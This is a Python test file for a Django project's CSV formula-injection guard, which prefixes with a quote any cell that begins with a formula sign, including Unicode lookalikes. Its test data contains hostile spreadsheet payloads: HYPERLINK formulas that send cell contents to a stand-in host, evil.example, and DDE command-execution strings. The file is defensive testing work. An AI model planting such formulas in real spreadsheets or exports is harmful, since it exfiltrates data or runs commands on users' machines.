"""CSV formula injection: cells a spreadsheet would run as a formula are turned into text."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from governance.csv_safety import safe_cell, safe_dict_row, safe_row


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_cells_that_start_a_formula_are_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["claude-code", "a=b", "user@example.com", "", " =1", "1-2"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [None, -5, 3.5, Decimal("-1.25"), True, date(2026, 1, 2)])
def test_non_text_values_pass_through_so_numbers_stay_numbers(value):
    assert safe_cell(value) is value


def test_rows_and_dict_rows_are_neutralised_cell_by_cell():
    assert safe_row(["ok", "=1", 7]) == ["ok", "'=1", 7]
    assert safe_dict_row({"name": "@x", "n": -1}) == {"name": "'@x", "n": -1}


def test_a_written_csv_keeps_the_text_visible_and_inert():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(["=cmd|' /C calc'!A0", "plain"]))
    assert buffer.getvalue() == "'=cmd|' /C calc'!A0,plain\r\n"
    assert next(csv.reader(io.StringIO(buffer.getvalue())))[0] == "'=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "value",
    [
        '＝HYPERLINK("http://evil.example")',  # fullwidth equals
        "＋1+cmd|' /C calc'!A0",  # fullwidth plus
        "－2+3",  # fullwidth hyphen-minus
        "＠SUM(A1:A2)",  # fullwidth commercial at
        "﹦1+1",  # small equals sign
        "﹢1",  # small plus sign
        "﹣1",  # small hyphen-minus
        "﹫SUM(A1)",  # small commercial at
        "⁼1+1",  # superscript equals sign
        "₊1",  # subscript plus sign
        "\u22122+3",  # minus sign
        "\u200b=1+1",  # zero-width space before the formula
        "\ufeff@SUM(A1)",  # byte-order mark before the formula
    ],
    ids=[
        "fullwidth-equals",
        "fullwidth-plus",
        "fullwidth-minus",
        "fullwidth-at",
        "small-equals",
        "small-plus",
        "small-minus",
        "small-at",
        "superscript-equals",
        "subscript-plus",
        "minus-sign",
        "zero-width-space",
        "byte-order-mark",
    ],
)
def test_confusable_formula_starts_are_neutralised_after_nfkc(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["ｃｌａｕｄｅ", "名前=値", "Ａ＝Ｂ", "é=1", "\u3000=1"])
def test_other_unicode_text_is_unchanged(value):
    # Fullwidth letters, an equals sign not at the start, and a leading (ideographic) space, which
    # spreadsheets read as text, as they do " =1".
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_the_inventory_export_neutralises_a_fullwidth_formula(client, iam, owner):
    from tests.factories import IdentityFactory

    IdentityFactory(owner=owner, name='＝HYPERLINK("http://evil.example","x")')
    client.force_login(iam)
    response = client.get("/inventory/export.csv")
    text = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    names = [row[1] for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))]
    assert '\'＝HYPERLINK("http://evil.example","x")' in names, names
